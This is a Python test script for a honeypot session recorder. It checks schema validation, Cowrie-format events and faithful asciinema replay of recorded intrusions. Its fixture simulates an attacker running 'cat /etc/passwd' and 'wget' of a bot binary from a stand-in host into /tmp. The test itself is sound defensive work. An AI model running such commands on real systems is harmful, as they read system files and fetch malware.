#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""test_formats.py FEED ROOT: what the book writes is what others read. Records follow docs/session-schema.json, which
refuses what it should; cowrie.json has the fields that Cowrie's feeders want; asciinema accepts every recording; and a
terminal that plays a recording looks, cell by cell, like one that saw the original bytes, however they were cut."""
import atexit
import codecs
import glob
import json
import os
import pty
import random
import re
import select
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time

feed, root = sys.argv[1:3]
try:
    import fcntl
    import jsonschema
    import pyte
    import termios
except ImportError as e:
    print(f"skip: {e}")
    sys.exit(77)

failed = []
home = tempfile.mkdtemp(prefix="skep-formats-")
atexit.register(shutil.rmtree, home, True)


def check(good, what):
    if not good:
        failed.append(what)


def play(lines):
    """Feeds lines; returns the folder and what feed said."""
    folder = tempfile.mkdtemp(dir=home)
    p = subprocess.run([feed, folder], input="\n".join(lines) + "\n", text=True, capture_output=True, timeout=120)
    check(p.returncode == 0, f"feed failed: {p.stderr[:300]}")
    return folder, p.stdout.split()


def path_of(folder, ident, ending=".cast"):
    found = glob.glob(f"{folder}/sessions/*/{ident}{ending}")
    return found[0] if found else "/nonexistent"


# ---- the formats of lines -----------------------------------------------------------------------------
SCRIPT = """visit 1 198.51.100.7 40001 22
login 1 root wrong 0
login 1 root hunter2 1
size 1 0 90 30
exec 1 50 1001 0 -bash
out 1 0 726f6f74407765623a7e2320
in 1 0 69640d
shell pid=50 ppid=1001 uid=0 user=root tty=pts/0 seq=1 cwd=/root line=id; cat /etc/passwd
exec 1 51 50 0 id
exit 1 51 0
shell pid=50 seq=1 status=0
out 1 0 7569643d300d0a
hidden 1 0 736563726574
hidden 1 0 0d
exec 1 60 50 0 wget http://192.0.2.9/bot
file 1 60 1 /tmp/bot 7f454c46
exec 1 61 50 0 sftp-server
file 1 61 2 /tmp/up 616263
file 1 61 3 /tmp/up2 616263
out 1 3 73637265656e
wait 2000
end 1
visit 2 2001:db8::66 5 22
login 2 admin admin 0
end 2
visit 3 203.0.113.5 77 22
end 3
wire-begin telnet 203.0.113.8 99 23
wire-client 787465726d
wire-out 6c6f67696e3a20
wire-command 6c73
wire-in 6c730d0a
wire-end
wait 5000
visit 4 203.0.113.9 78 22
out 4 0 78
wait 1000""".split("\n")
folder, ids = play(SCRIPT)
schema = json.load(open(f"{root}/docs/session-schema.json", encoding="utf-8"))
jsonschema.Draft202012Validator.check_schema(schema)
validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
records = {os.path.basename(f)[:-5]: json.load(open(f, encoding="utf-8"))
           for f in glob.glob(f"{folder}/sessions/*/*.json") if not f.endswith("cowrie.json")}
listed = [json.loads(x) for f in glob.glob(f"{folder}/sessions/*/list.jsonl") for x in open(f, encoding="utf-8")]
check(len(records) == 3, f"three records, not {sorted(records)}")
check(len(listed) == 2, f"two visits that did nothing, not {len(listed)}")
for r in list(records.values()) + listed:
    for e in validator.iter_errors(r):
        failed.append(f"a record: {e.json_path}: {e.message[:200]}")
main = records.get(ids[0], {})
check(len(main.get("casts", [])) == 2, "two terminals, two recordings")
check([c["line"] for c in main.get("commands", []) if c["typed"]] == ["id; cat /etc/passwd"], "the typed line")
check([h["text"] for h in main.get("hidden", [])] == ["secret"], "what was typed hidden")
check({f["what"] for f in main.get("files", [])} == {"fetched", "uploaded"}, "how files came")


def refuses(what, change):
    value = json.loads(json.dumps(main))
    change(value)
    check(not validator.is_valid(value), f"the schema admits {what}")


refuses("an unknown key", lambda v: v.update(extra=1))
refuses("an unknown key of a command", lambda v: v["commands"][0].update(extra=1))
refuses("a missing id", lambda v: v.pop("id"))
refuses("a wrong id", lambda v: v.update(id="../../../.."))
refuses("a wrong address", lambda v: v.update(peer="1.2.3.400"))
refuses("an unknown layer", lambda v: v["commands"][0].update(layer="dream"))
refuses("a hash that is none", lambda v: v["files"][0].update(sha256="x"))
refuses("an escape sequence", lambda v: v.update(user="\x1b[31m".replace("\x1b", "\x07")))

# What Cowrie's documentation says of each event, and what everyone has.
SHARED = {"eventid": str, "session": str, "src_ip": str, "sensor": str, "message": str, "timestamp": str}
FIELDS = {
    "cowrie.session.connect": {"src_port": int, "dst_ip": str, "dst_port": int, "protocol": str},
    "cowrie.client.version": {"version": str},
    "cowrie.client.size": {"width": int, "height": int},
    "cowrie.login.failed": {"username": str, "password": str},
    "cowrie.login.success": {"username": str, "password": str},
    "cowrie.command.input": {"input": str},
    "cowrie.session.file_download": {"url": str, "outfile": str, "shasum": str},
    "cowrie.session.file_upload": {"filename": str, "outfile": str, "shasum": str},
    "cowrie.log.closed": {"ttylog": str, "size": int, "duration": float, "duplicate": bool},
    "cowrie.session.closed": {"duration": float},
}
seen = {}
for f in glob.glob(f"{folder}/sessions/*/cowrie.json"):
    for line in open(f, encoding="utf-8"):
        o = json.loads(line)
        seen.setdefault(o["eventid"], []).append(o)
        want = {**SHARED, **FIELDS.get(o["eventid"], {"?": int})}
        for key, kind in want.items():
            check(isinstance(o.get(key), kind), f"{o['eventid']}: {key} is {o.get(key)!r}")
        check(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", o["timestamp"]), "a time as Cowrie's")
check(set(seen) == set(FIELDS), f"every event of Cowrie's: missing {set(FIELDS) - set(seen)}")
check(len(seen["cowrie.session.connect"]) == 5 and len(seen["cowrie.session.closed"]) == 5, "each visit begins and ends")
download = seen["cowrie.session.file_download"][0]
check(download["url"] == "http://192.0.2.9/bot", f"the address it came from: {download['url']}")
check(os.path.exists(f"{folder}/{download['outfile']}"), "outfile is there")
check([o["duplicate"] for o in seen["cowrie.session.file_upload"]] == [False, True], "a second sight is one")
check(os.path.exists(f"{folder}/{seen['cowrie.log.closed'][0]['ttylog']}"), "ttylog is there")
check([o["input"] for o in seen["cowrie.command.input"]][:2] == ["-bash", "id; cat /etc/passwd"], "commands as typed")


# ---- recordings -------------------------------------------------------------------------------------------
def asciinema_accepts(path):
    """`asciinema cat` wants a terminal."""
    if shutil.which("asciinema") is None:
        return None
    env = {**os.environ, "TERM": "xterm-256color", "LANG": "C.UTF-8", "HOME": home}
    pid, fd = pty.fork()
    if pid == 0:
        os.execvpe("asciinema", ["asciinema", "cat", path], env)
    out = read_all(fd, 30)
    _, status = os.waitpid(pid, 0)
    return out if os.waitstatus_to_exitcode(status) == 0 else False


def read_all(fd, seconds, until=None):
    out, end = b"", time.monotonic() + seconds
    while time.monotonic() < end:
        ready, _, _ = select.select([fd], [], [], 0.1)
        if not ready:
            if until is not None and until(out):
                break
            continue
        try:
            piece = os.read(fd, 65536)
        except OSError:
            break
        if not piece:
            break
        out += piece
    return out


def read_cast(path):
    """Header and events, each as the format wants it."""
    lines = open(path, encoding="utf-8", newline="\n").read().split("\n")
    check(lines[-1] == "", f"{path}: the last line is whole")
    header, events, last = json.loads(lines[0]), [], 0
    check(header["version"] == 2 and header["width"] > 0 and header["height"] > 0, "a header")
    for line in lines[1:-1]:
        at, code, text = json.loads(line)
        check(at >= last and code in "oimr" and isinstance(text, str), f"an event: {line[:80]}")
        check(code != "r" or re.fullmatch(r"\d+x\d+", text), f"a size: {text}")
        events.append((at, code, text))
        last = at
    return header, events


class Screen(pyte.Screen):
    """pyte's, which stumbles over xterm's private form of CSI m that vim sends."""

    def select_graphic_rendition(self, *attrs, private=False):
        if not private:
            super().select_graphic_rendition(*attrs)


def cells(screen):
    return [[(c.data, c.fg, c.bg, c.bold, c.reverse, c.underscore) for c in
             (screen.buffer[y][x] for x in range(screen.columns))] for y in range(screen.lines)]


def show(stream, text):
    """One at a time: with some control characters pyte's screen depends on how its input was cut."""
    for c in text:
        stream.feed(c)


def original(steps, size):
    screen = Screen(*size)
    stream = pyte.Stream(screen)
    decoder = codecs.getincrementaldecoder("utf-8")("replace")
    for what, value in steps:
        if what == "out":
            show(stream, decoder.decode(value))
        else:
            screen.resize(lines=value[1], columns=value[0])
    return screen


def replayed(path):
    header, events = read_cast(path)
    screen = Screen(header["width"], header["height"])
    stream = pyte.Stream(screen)
    for _, code, text in events:
        if code == "o":
            show(stream, text)
        elif code == "r":
            columns, rows = map(int, text.split("x"))
            screen.resize(lines=rows, columns=columns)
    return screen


def through_book(steps, size, seed):
    """The same steps as a guest's monitor would tell them, in odd pieces."""
    dice = random.Random(seed)
    lines = ["visit 1 198.51.100.7 40001 22", f"size 1 0 {size[0]} {size[1]}"]
    for what, value in steps:
        if what == "size":
            lines.append(f"size 1 0 {value[0]} {value[1]}")
            continue
        at = 0
        while at < len(value):
            n = dice.choice([1, 2, 3, 7, 61, 512, 2047, 2048, 2049, 4096])
            lines.append(f"out 1 0 {value[at:at + n].hex()}")
            at += n
    where, names = play(lines + ["end 1", "wait 4000"])
    return where, path_of(where, names[0])


def same(what, steps, size=(80, 24)):
    want = original(steps, size)
    for seed in range(3):
        where, path = through_book(steps, size, seed)
        got = replayed(path)
        check(cells(got) == cells(want) and (got.cursor.x, got.cursor.y) == (want.cursor.x, want.cursor.y),
              f"{what}: the screen after a replay is another (pieces {seed})")
        accepted = asciinema_accepts(path)
        check(accepted is None or accepted is not False, f"{what}: asciinema refuses it")
        shutil.rmtree(where)


def record(argv, keys, size=(80, 24), resize=None):
    """Runs a full-screen program on a terminal of its own; what it shows, and when the size changed."""
    env = {**os.environ, "TERM": "xterm", "LANG": "C.UTF-8", "HOME": home}
    pid, fd = pty.fork()
    if pid == 0:
        os.execvpe(argv[0], argv, env)
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", size[1], size[0], 0, 0))
    steps = [("out", read_all(fd, 5, lambda out: len(out) > 0))]
    for key in keys:
        if key == "resize":
            fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", resize[1], resize[0], 0, 0))
            os.kill(pid, signal.SIGWINCH)
            steps.append(("size", resize))
        else:
            os.write(fd, key)
        steps.append(("out", read_all(fd, 2, lambda out: len(out) > 0)))
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    os.close(fd)
    return steps


hostile = bytes(range(256)) * 3 + b"\xe2\x82" + b"\x1b[2J\x1b[31mx" + b"\xf0\x9f\x90\x9d" * 5 + b"\xff" * 9
same("bytes of all kinds", [("out", hostile.replace(b"\x1b", b"").replace(b"\x9b", b""))])
check(asciinema_accepts(path_of(folder, ids[0])) in (None,) or
      b"uid=0" in asciinema_accepts(path_of(folder, ids[0])), "asciinema shows what was shown")
where, names = play(["visit 1 198.51.100.7 1 22", f"out 1 0 {hostile.hex()}", f"in 1 0 {hostile.hex()}",
                     "exec 1 5 1 0 \x01\x02", "end 1", "wait 4000"])
check(asciinema_accepts(path_of(where, names[0])) is not False, "asciinema accepts hostile bytes")
shutil.rmtree(where)
text = "".join(f"line {i} \u00e4\u20ac\U0001f41d \u6f22\u5b57 {'x' * (i % 90)}\n" for i in range(200))
open(f"{folder}/text", "w", encoding="utf-8").write(text)
programs = {
    "less": (["less", "-R", f"{folder}/text"], [b" ", b"/line 77\n", b"k", "resize", b"G", b"b"]),
    "top": (["top", "-d", "0.5"], [b"c", "resize", b"M"]),
    "vim.tiny": (["vim.tiny", "-u", "NONE", f"{folder}/text"], [b"10dd", b"ihello\x1b", "resize", b":%s/line/Zeile/\r",
                                                                 b"G", b"u"]),
}
for name, (argv, keys) in programs.items():
    if shutil.which(name) is not None:
        same(name, record(argv, keys, resize=(100, 30)))

for f in failed[:40]:
    print("failed:", f)
sys.exit(1 if failed else 0)
